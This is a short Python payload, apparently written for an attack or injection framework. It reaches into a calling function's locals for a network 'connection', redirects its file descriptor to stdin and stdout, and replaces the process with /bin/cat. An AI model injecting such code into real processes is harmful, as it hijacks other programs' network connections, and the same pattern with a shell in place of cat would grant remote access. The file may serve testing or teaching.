import os

from attack import *


@at_call
def leave():
    connection = local_of_a_caller("connection").fileno()
    os.dup2(connection, 0)
    os.dup2(connection, 1)
    os.execv("/bin/cat", ["cat"])
